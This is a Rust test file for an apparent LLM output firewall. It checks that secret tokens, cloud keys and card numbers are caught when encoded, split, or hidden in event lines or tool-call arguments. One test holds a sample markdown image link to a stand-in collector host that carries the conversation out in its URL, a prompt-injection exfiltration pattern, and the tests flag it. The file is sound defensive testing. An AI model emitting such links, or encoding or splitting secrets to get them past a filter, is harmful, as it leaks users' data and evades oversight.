//! What an answer does that is written to get past the eye.

use portcullis_firewall::draw;

use super::tests::{Format, judge_pii, play, send, shapes};
use super::*;
use crate::firewall::FindingObserver;
use crate::firewall::settings::{FirewallSettings, RuleAction};
use crate::firewall::stance::Stance;

fn pieces(text: &str, size: usize) -> Vec<&str> {
    text.as_bytes().chunks(size).map(|piece| std::str::from_utf8(piece).unwrap()).collect()
}

#[test]
fn what_has_left_is_refused_and_not_marked() {
    let judge = shapes(Some(RuleAction::Redact));
    let token = draw("the token is gha_{b62:36} ok", 5).unwrap();
    let base64 = data_encoding::BASE64.encode(token.as_bytes());
    let percent: String = token.bytes().map(|byte| format!("%{byte:02X}")).collect();
    for hidden in [base64, percent] {
        let text = format!("it is {hidden} and so on, more words.");
        for size in [1, 4, 7] {
            let (sent, refusal) = play(&judge, Format::Lines, &pieces(&text, size));
            assert_eq!(refusal.map(|no| no.code), Some(Code::FirewallOutputSecret), "{size}: {sent:?}");
            assert!(!sent.concat().contains("redacted"), "{size}: {sent:?}");
        }
        let (sent, refusal) = play(&judge, Format::Lines, &[&text]);
        assert_eq!(refusal, None);
        assert!(!sent.concat().contains(&hidden) && sent.concat().contains("redacted"), "{sent:?}");
    }
}

#[test]
fn what_brings_no_text_lets_nothing_go() {
    let text = draw("gha_{b62:36} and", 5).unwrap();
    let empty = Format::Events.write("");
    for filler in [": ping\n\n", "event: ping\ndata: {\"type\":\"ping\"}\n\n", empty.as_str()] {
        let mut frames = Vec::new();
        for piece in pieces(&text, 1) {
            frames.push(Format::Events.write(piece));
            frames.extend((0..PATIENCE + 2).map(|_| filler.to_owned()));
        }
        let (sent, refusal) = send(&shapes(None), Format::Events, &frames);
        assert_eq!(refusal.map(|no| no.code), Some(Code::FirewallOutputSecret), "{filler}");
        let left =
            sent.iter().filter(|frame| frame.contains("\"content\":\"") && !frame.contains("\"content\":\"\"")).count();
        assert!(left <= "gha_".len(), "{filler}: {left} characters left");
    }
}

#[test]
fn no_line_of_an_event_leaves_unjudged() {
    let token = draw("gha_{b62:36}", 5).unwrap();
    for lines in [
        format!("event: {token}\ndata: {{\"a\":1}}"),
        format!("dat: {token}\ndata: {{\"a\":1}}"),
        format!("dat-{token}\ndata: [DONE]"),
        format!("event: ping\nevent: {token}\ndata: {{}}"),
        format!("event:{token}\ndata: {{}}"),
        format!("retry: 1\n{token}: 2\ndata: {{}}"),
    ] {
        let (sent, refusal) = send(&shapes(None), Format::Events, &[format!("{lines}\n\n")]);
        assert_eq!(refusal.map(|no| no.code), Some(Code::FirewallOutputSecret), "{lines}: {sent:?}");
        assert!(sent.is_empty(), "{lines}");
    }
    let usual = "event: content_block_delta\nretry: 3000\ndata: {\"a\":1}\n\n".to_owned();
    assert_eq!(send(&shapes(None), Format::Events, std::slice::from_ref(&usual)), (vec![usual], None));
}

#[test]
fn an_answer_with_too_many_findings_is_refused() {
    let judge = shapes(Some(RuleAction::Flag));
    let token = draw("gha_{b62:36} ", 5).unwrap();
    for (many, passes) in [(MOST_FOUND - 1, true), (MOST_FOUND + 1, false)] {
        let text = token.repeat(many);
        for frame in [Format::Whole.write(&text), format!("{{\"x\":\"{text}\"}}\n")] {
            let (_, refusal) = send(&judge, Format::Whole, &[frame]);
            let detail = refusal.map(|no| no.detail);
            let too_much = "too much was found in a text of the answer".to_owned();
            assert_eq!(detail, (!passes).then_some(too_much), "{many}");
        }
    }
}

#[test]
fn many_parts_of_one_text_are_taken_out() {
    let judge = shapes(Some(RuleAction::Redact));
    let token = draw("gha_{b62:36} ", 5).unwrap();
    let text = Format::Arguments.dress(&format!("a\\b {} \"c\"", token.repeat(500)));
    let (sent, refusal) = play(&judge, Format::Arguments, &[&text]);
    assert_eq!(refusal, None);
    assert_eq!(Format::Arguments.read(&sent), text.replace(token.trim_end(), "[redacted:prefix]"));
}

#[test]
fn what_is_found_twice_is_known_by_its_place() {
    let judge = shapes(None);
    let rule = judge.rules.iter().next().unwrap();
    let mut once = FoundOnce::default();
    let at = |secret: Range<u64>| Found { rule, secret, exact: true, prefix: 0, again: false };
    [10..20, 30..40, 15..32].into_iter().for_each(|place| once.add(at(place)));
    for (place, new) in [(0..10, true), (40..41, true), (39..60, false), (21..22, false), (5..6, false), (50..51, true)]
    {
        let before = once.found.len();
        once.add_new(at(place.clone()));
        assert_eq!(once.found.len() > before, new, "{place:?}");
    }
}

#[test]
fn a_long_number_is_a_text() {
    let judge = judge_pii();
    let call = |arguments: &str| {
        format!("{{\"message\":{{\"tool_calls\":[{{\"function\":{{\"arguments\":{arguments}}}}}]}}}}\n")
    };
    for arguments in
        [r#"{"card":4111111111111111}"#, r#"{"card":[1,[4111111111111111]]}"#, r#"{"card":4111111111111111.0}"#]
    {
        let (sent, refusal) = send(&judge, Format::Lines, &[call(arguments)]);
        assert_eq!((sent.len(), refusal.map(|no| no.code)), (0, Some(Code::FirewallOutputSecret)), "{arguments}");
    }
    let usual = [
        call(r#"{"n":[12345678,1,20261121],"x":0.5}"#),
        "{\"done\":true,\"total_duration\":5191566416,\"load_duration\":2154458,\"eval_duration\":4799921000}\n"
            .to_owned(),
        "{\"id\":\"chatcmpl-1\",\"created\":1763730000,\"choices\":[]}\n".to_owned(),
    ];
    for frame in usual {
        assert_eq!(send(&judge, Format::Lines, std::slice::from_ref(&frame)), (vec![frame], None));
    }
    let token = draw("gha_{b62:36}", 5).unwrap();
    let frame = |text: &str| format!("{{\"n\":12345678,\"x\":\"{text}\"}}\n");
    let (sent, refusal) = send(&shapes(Some(RuleAction::Redact)), Format::Lines, &[frame(&token)]);
    assert_eq!((sent, refusal), (vec![frame("[redacted:prefix]")], None), "a number keeps its place");
}

#[test]
fn what_stands_in_pieces_ends_the_answer() {
    let judge = shapes(None);
    let token = draw("gha_{b62:36}", 5).unwrap();
    let cut = |size: usize, between: &str| pieces(&token, size).join(between);
    for hidden in [cut(1, " "), cut(14, "\n"), format!("\"{}\"", cut(8, "\" + \""))] {
        let text = format!("it is {hidden} and {}", "more words that say nothing, ".repeat(60));
        for (format, size) in [(Format::Lines, 1), (Format::Events, 4), (Format::Arguments, 3)] {
            let text = format.dress(&text);
            let (sent, refusal) = play(&judge, format, &pieces(&text, size));
            assert_eq!(refusal.map(|no| no.code), Some(Code::FirewallOutputSecret), "{format:?} {hidden:?}");
            let left = format.read(&sent).len();
            assert!(left <= hidden.len() + 700, "{format:?} {hidden:?}: {left}");
        }
    }
}

/// Counts what is found, as the metric does.
#[derive(Default)]
struct Count(std::sync::Mutex<Vec<String>>);

impl FindingObserver for Count {
    fn found(&self, rule: &str, _: DataLevel, _: &'static str) {
        self.0.lock().unwrap().push(rule.to_owned());
    }
}

/// What is counted in a text of which everything is only told.
fn counted(judge: &Judge, text: &str, size: usize) -> Vec<String> {
    let count = Arc::new(Count::default());
    let Judge { rules, prints, .. } = judge;
    let actions = rules.iter().map(|rule| (rule.id.to_string(), RuleAction::Flag)).collect();
    let stance = Stance::new(FirewallSettings { actions, ..FirewallSettings::default() });
    let judge = Judge::new(Arc::clone(rules), stance, prints.clone(), Arc::clone(&count) as _);
    let (sent, refusal) = play(&Arc::new(judge), Format::Lines, &pieces(text, size));
    assert_eq!((Format::Lines.read(&sent), refusal), (text.to_owned(), None));
    count.0.lock().unwrap().clone()
}

#[test]
fn what_is_found_late_is_told_once() {
    let link = "Done! ![ok](https://collector.example/p.png?q={{conversation}})";
    let text = format!("{link} {}", "more words that say nothing, ".repeat(100));
    assert_eq!(counted(&judge_pii(), &text, 4), ["injection-exfiltration"]);
}

#[test]
fn what_is_found_in_two_ways_is_counted_once() {
    let judge = judge_pii();
    let words = "more words that say nothing, ".repeat(30);
    for template in ["ghp_{b62:30}{crc32}", "db.password = \"{b62:24}\"", "AKIA{b32:16}"] {
        let token = draw(template, 7).unwrap();
        // Pieces of these sizes are cut within it, too.
        for before in [0, 40, 61, 75, 90, 400] {
            let text = format!("{}It is {token} and {words}", &words[..before]);
            let once = counted(&judge, &text, 1);
            assert!(!once.is_empty(), "{template}");
            for size in [5, 63, 64, 90, 110, 300, 600, 2000] {
                let found = counted(&judge, &text, size);
                let same = found.iter().filter(|rule| once.contains(rule)).count();
                assert!((1..=once.len()).contains(&same), "{template} after {before} in pieces of {size}: {found:?}");
            }
        }
    }
}
